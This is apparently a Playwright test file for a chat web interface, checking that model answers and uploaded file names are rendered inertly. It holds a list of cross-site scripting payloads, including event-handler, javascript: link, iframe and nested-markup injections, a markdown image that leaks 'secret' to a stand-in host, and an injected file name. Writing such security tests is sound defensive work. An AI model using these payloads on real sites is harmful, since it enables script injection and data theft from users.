// An answer is the model's text, a file's name whoever's: neither may do anything.
import { expect, lastAnswer, open, sayInstead, test } from "./page";

const HOSTILE = `<script>window.hit = 1</script><img src=x onerror="window.hit=2"><svg onload="window.hit=3"></svg>
[a](javascript:window.hit=4) [b](data:text/html,<script>window.hit=5</script>) ![c](https://example.org/leak.png?q=secret)
<iframe srcdoc="<script>parent.hit=6</script>"></iframe><a href="vbscript:x" onclick="window.hit=7">d</a>
<math><mtext><table><mglyph><style><img src=x onerror="window.hit=8"></style></mglyph></table></mtext></math>
<form action="/v1/chat/completions"><button>e</button></form><style>body{display:none}</style><base href="https://example.org/">
$\\href{javascript:window.hit=9}{x}$ $\\includegraphics{https://example.org/y.png}$
\`\`\`html
<script>window.hit = 10</script>
\`\`\``;

test("nothing in an answer runs, loads or leads astray", async ({ page }) => {
  await sayInstead(page, HOSTILE);
  await open(page);
  page.removeAllListeners("console"); // the policy names what it refused while the answer was being cleaned
  await page.locator("textarea.question").fill("<img src=x onerror='window.hit=11'>");
  await page.getByRole("button", { name: "Send" }).click();
  await expect(lastAnswer(page)).toHaveAttribute("aria-busy", "false");
  await expect(lastAnswer(page).locator(".markdown")).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined();
  expect(await lastAnswer(page).locator(".markdown :is(script, img, iframe, style, form, base, object, embed)").count()).toBe(0);
  for (const href of await lastAnswer(page).locator("a").evaluateAll((all) => all.map((a) => a.getAttribute("href"))))
    expect(href ?? "").toMatch(/^(https?:|mailto:|$)/);
  expect(await page.locator("body").isVisible()).toBe(true);
});

test("a file's name is only a name", async ({ page }) => {
  await open(page);
  await page.getByTestId("files").setInputFiles({ name: '"><img src=x onerror=window.hit=1>.png', mimeType: "image/png", buffer: Buffer.from("no picture") });
  await expect(page.locator(".composer .card")).toContainText("onerror");
  expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined();
});
